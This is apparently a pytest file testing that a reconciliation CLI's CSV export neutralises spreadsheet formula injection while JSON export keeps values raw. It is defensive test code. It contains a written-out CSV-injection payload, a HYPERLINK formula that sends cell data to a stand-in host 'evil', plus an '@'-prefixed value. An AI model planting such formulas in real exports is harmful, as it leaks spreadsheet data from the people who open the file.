"""`recon exceptions --format csv`: a file people open in a spreadsheet, so nothing in it runs."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from recon.cli.main import main
from tests.app.demo_warehouse import Warehouse, make_warehouse

EVIL = '=HYPERLINK("http://evil/x?"&A2,"Click for details")'


@pytest.fixture
def wh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Warehouse:
    warehouse = make_warehouse(tmp_path)
    monkeypatch.setenv("RECON_WAREHOUSE_URL", warehouse.url)
    monkeypatch.setenv("RECON_DATA_DIR", str(tmp_path))
    #                  id   kind               store day           pos      erp     diff
    warehouse.exception("a", "unknown_sku", "1", "2024-06-01", sku=EVIL)
    warehouse.exception("b", "tender_variance", "1", "2024-06-01", "10.00", "9.49", "-0.51",
                        tender="@Card")  # fmt: skip
    return warehouse


def test_exceptions_csv_neutralises_formulas_and_keeps_negative_money(
    wh: Warehouse, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["exceptions", "--format", "csv"]) == 0
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(capsys.readouterr().out))}
    assert (rows["a"]["sku"], rows["a"]["store"], rows["a"]["pos_value"]) == ("'" + EVIL, "1", "")
    assert (rows["b"]["tender"], rows["b"]["difference"]) == ("'@Card", "-0.51")


def test_exceptions_json_stays_raw(wh: Warehouse, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["exceptions", "--format", "json"]) == 0
    records = {r["id"]: r for r in json.loads(capsys.readouterr().out)}
    assert (records["a"]["sku"], records["b"]["tender"]) == (EVIL, "@Card")
